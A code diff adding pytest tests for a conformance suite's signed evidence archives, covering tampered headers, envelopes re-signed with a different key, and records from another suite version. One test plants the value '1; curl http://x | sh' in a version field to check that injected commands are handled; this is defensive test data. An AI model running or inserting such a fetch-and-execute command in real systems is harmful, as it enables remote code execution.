@@ -8,6 +8,7 @@ import pytest
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
 
+from conformance.contract import at
 from conformance.jobs.evidence.archiving import Signing, archive_run, verify_archive, verify_certificate
 from conformance.jobs.evidence.finished_runs import certificate_in
 from conformance.jobs.evidence.signing import UNSIGNED, statement_of
@@ -71,6 +72,7 @@ def test_no_edit_keeps_the_signature(signed_archive, keys, tmp_path, edit):
     assert verify_archive(again, CONTRACTS, keys / "signer.pub").differences
 
 
+OLDER = at(CONTRACTS["customers"], CONTRACTS["customers"].releases[-3])
 DROPPED = [
     lambda lines: [e for e in lines if "getTerms" not in str(e.get("case"))],
     lambda lines: [{**e, "judging": {**e["judging"], "declared": ["customers/getPromotions"]}} if e["type"] == "header" else e for e in lines],
@@ -84,6 +86,9 @@ DROPPED = [
         "finding": "F-00000000", "claim": "reading", "argument": "x", "decision": "upheld", "by": "vendor", "date": "2026-01-01", "place": "x",
     }]}} if e["type"] == "header" else e for e in lines],
     lambda lines: [{**e, "digests": {**e["digests"], "ixit": "another"}} if e["type"] == "header" else e for e in lines],
+    lambda lines: [{**e, "seed": 99, "drawn": {"mark": "abcdef", "choices": 99}} if e["type"] == "header" else e for e in lines],
+    lambda lines: [{**e, "contracts": {"customers": {**e["contracts"]["customers"], "release": OLDER.release, "sha256": OLDER.sha256}}}
+                   if e["type"] == "header" else e for e in lines],
 ]  # fmt: skip
 
 
@@ -100,6 +105,34 @@ def test_who_makes_a_record_anew_with_the_suite_cannot_sign_it(red, signed_archi
     assert () == unsigned.differences
     assert unsigned.says.endswith(UNSIGNED)
     assert "manifest.dsse.json" in {d.what for d in stolen.differences}
+
+
+def test_who_signs_it_with_a_key_of_his_own_is_somebody_else(red, keys, tmp_path):  # noqa: F811 - a fixture
+    """The key that the reader has decides, not the one that the envelope names."""
+    (tmp_path / "run").mkdir()
+    (tmp_path / "run" / "run.jsonl").write_bytes(rewritten(red / "run.jsonl", DROPPED[0]))
+    archive_run(tmp_path / "run", tmp_path / "a.zip", CONTRACTS, acceptance=False, signing=Signing(key=keys / "other"))
+    files = contents(tmp_path / "a.zip")
+    envelope = json.loads(files["manifest.dsse.json"])
+    envelope["signatures"][0]["keyid"] = key_id(public_key(keys / "signer.pub"))
+    files["manifest.dsse.json"] = json.dumps(envelope).encode()
+    verified = verify_archive(repacked(files, tmp_path / "b.zip", anew=False), CONTRACTS, keys / "signer.pub")
+
+    assert ["manifest.dsse.json"] == [d.what for d in verified.differences]
+
+
+def test_a_record_of_another_version_says_that_its_reports_were_not_compared(red, tmp_path):  # noqa: F811 - a fixture
+    """In its one line: a report may be anything then. What is no version goes into no command to be pasted."""
+    (tmp_path / "run").mkdir()
+    change = {"suite": {"version": "1; curl http://x | sh", "judgement": "1"}}
+    lines = rewritten(red / "run.jsonl", lambda lines: [{**lines[0], **change}, *lines[1:]])
+    (tmp_path / "run" / "run.jsonl").write_bytes(lines)
+    archive_run(tmp_path / "run", tmp_path / "a.zip", CONTRACTS, acceptance=False)
+    files = {**contents(tmp_path / "a.zip"), "report.html": b"<h1>CONFORMANT</h1>"}
+    verified = verify_archive(repacked(files, tmp_path / "b.zip"), CONTRACTS)
+
+    assert "reports not compared: another version judged" in verified.says
+    assert verified.notes[0].endswith("its reports were not compared")
 
 
 def test_a_certificate_says_what_was_signed(signed_archive, keys):
